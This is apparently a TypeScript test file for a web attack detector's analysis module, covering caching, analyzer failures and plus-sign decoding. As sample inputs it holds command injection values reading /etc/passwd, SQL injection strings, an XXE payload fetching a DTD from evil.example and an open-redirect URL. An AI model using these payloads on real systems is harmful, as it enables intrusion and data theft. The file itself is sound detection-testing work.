/** Running every analyzer over a leaf: findings gathered, remembered, and a throwing analyzer contained. */
import { expect, test } from "bun:test";
import { LeafAnalysis } from "../../../src/detect/analyzers/index.ts";
import type { Analyzer } from "../../../src/detect/analyzers/finding.ts";
import type { Leaf } from "../../../src/decompose/leaf.ts";

const leaf = (text: string): Leaf => ({ location: "query", path: "query.q", name: "q", text, kind: "value", encodings: [] });

test("an analyzer that throws costs its own findings only, and is counted", () => {
  let calls = 0;
  const broken: Analyzer = { name: "broken", analyze: () => { throw new SyntaxError("bad regex"); } };
  const counting: Analyzer = { name: "counting", analyze: (l) => (calls++, l.text.includes("x") ? [{ class: "sqli", rule: "counting.x", strength: 1, start: 0, end: 1 }] : []) };
  const analysis = new LeafAnalysis([broken, counting]);
  expect(analysis.analyze(leaf("x")).map((f) => f.rule)).toEqual(["counting.x"]);
  expect(analysis.failures.get("broken")).toBe(1);
  // Remembered: the same leaf is not analyzed again.
  analysis.analyze(leaf("x"));
  expect(calls).toBe(1);
});

test("identifiers reach only the analyzers that read them: hex session ids cost the others nothing, hex Java streams are still seen", () => {
  const seen: string[] = [];
  const sees = (name: string, readsIdentifiers?: boolean): Analyzer => ({ name, readsIdentifiers, analyze: (l) => (seen.push(`${name}:${l.text.slice(0, 8)}`), []) });
  const analysis = new LeafAnalysis([sees("sql"), sees("deserialization", true)]);
  analysis.analyze(leaf("EA414B3E327DED6875848530C864BD8F"));
  analysis.analyze(leaf("3f2b9c1e-8a47-4d2e-9b1f-6c5d4e3a2b10"));
  analysis.analyze(leaf("red shoes"));
  expect(seen).toEqual(["deserialization:EA414B3E", "deserialization:3f2b9c1e", "sql:red shoe", "deserialization:red shoe"]);
  const real = new LeafAnalysis();
  expect(real.analyze(leaf("aced0005737200116a6176612e7574696c2e48617368")).map((f) => f.class)).toContain("deserialization");
});

test("a finding whose strength is not in [0, 1] is dropped and counted", () => {
  const odd: Analyzer = { name: "odd", analyze: () => [{ class: "ssrf", rule: "odd.nan", strength: Number.NaN, start: 0, end: 1 }, { class: "ssrf", rule: "odd.ok", strength: 0.5, start: 0, end: 1 }] };
  const analysis = new LeafAnalysis([odd]);
  expect(analysis.analyze(leaf("x")).map((f) => f.rule)).toEqual(["odd.ok"]);
  expect(analysis.failures.get("odd")).toBe(1);
});

test("the same text is remembered per kind and path: each place gets its own findings, each analyzed once", () => {
  const calls: string[] = [];
  const byPath: Analyzer = { name: "by-path", analyze: (l) => (calls.push(`${l.kind}:${l.path}`), l.path === "query.next" ? [{ class: "open-redirect", rule: "by-path.next", strength: 0.9, start: 0, end: 1 }] : []) };
  const analysis = new LeafAnalysis([byPath]);
  const at = (path: string, kind: Leaf["kind"] = "value"): Leaf => ({ ...leaf("https://evil.example/"), path, kind });
  const places = [at("query.next"), at("header.referer"), at("query.next", "key"), at("query.next"), at("header.referer")];
  const rules = places.map((l) => analysis.analyze(l).map((f) => f.rule));
  expect(rules).toEqual([["by-path.next"], [], ["by-path.next"], ["by-path.next"], []]);
  expect(calls).toEqual(["value:query.next", "value:header.referer", "key:query.next"]);
  // A text seen in more places than are remembered is judged again there, never given another place's findings.
  for (let i = 0; i < 10; i++) analysis.analyze(at(`body.a${i}`));
  expect(analysis.analyze(at("body.a9"))).toEqual([]);
  expect(analysis.analyze(at("query.next")).map((f) => f.rule)).toEqual(["by-path.next"]);
});

test("a value under one path and two names (a name-value pair's name comes from its sibling) is judged under each name", () => {
  const byName: Analyzer = { name: "by-name", analyze: (l) => (l.name === "db.statement" ? [] : [{ class: "sqli", rule: "by-name.x", strength: 1, start: 0, end: 1 }]) };
  const analysis = new LeafAnalysis([byName]);
  const at = (name: string): Leaf => ({ ...leaf("x' UNION SELECT 1--"), path: "body.json.fields[0].value", name });
  expect(analysis.analyze(at("db.statement"))).toEqual([]);
  expect(analysis.analyze(at("email")).map((f) => f.rule)).toEqual(["by-name.x"]);
});

test("a value under a long path is analyzed each time, never remembered: names cannot fill the cache", () => {
  let calls = 0;
  const counting: Analyzer = { name: "counting", analyze: () => (calls++, []) };
  const analysis = new LeafAnalysis([counting]);
  const long: Leaf = { ...leaf("v"), path: `header.x-${"n".repeat(300)}` };
  analysis.analyze(long);
  analysis.analyze(long);
  expect(calls).toBe(2);
  analysis.analyze(leaf("v"));
  analysis.analyze(leaf("v"));
  expect(calls).toBe(3);
});

test("a value with `+` for its spaces is read both ways by every analyzer, with spans on the value", () => {
  const analysis = new LeafAnalysis();
  const strongest = (text: string) => analysis.analyze(leaf(text)).reduce((m, f) => Math.max(m, f.strength), 0);
  // `%2B` in a query is a `+` in the value: one word to its language, its language after a second decoding.
  for (const v of ["x;cat+/etc/passwd", "+|+dir+c:\\", "host.example;c$!at+/et$!c/pas$!swd", "'+or+'1'='1", "1))+OR+1=1--", '<!DOCTYPE+x+[<!ENTITY+%+e+SYSTEM+"http://evil.example/x.dtd">+%e;]>']) {
    expect(strongest(v)).toBeGreaterThanOrEqual(0.8);
  }
  const found = analysis.analyze(leaf("x;cat+/etc/passwd")).find((f) => f.class === "cmdi")!;
  expect("x;cat+/etc/passwd".slice(found.start, found.end)).toBe(";cat+/etc/passwd");
  // Plus signs of ordinary values read as spaces are still ordinary.
  for (const v of ["c++;about+us", "C++;C#;Java", "tom+jerry;cats+dogs", "+1-555-0100", "a+b=c", "2+2=4;3+3=6"]) expect(strongest(v)).toBeLessThan(0.5);
  // A value with a space of its own was decoded already: its `+` is a plus, read once.
  let reads = 0;
  const counting = new LeafAnalysis([{ name: "count", analyze: () => (reads++, []) }]);
  counting.analyze(leaf("a+b c"));
  counting.analyze(leaf("x+y"));
  expect(reads).toBe(3);
});
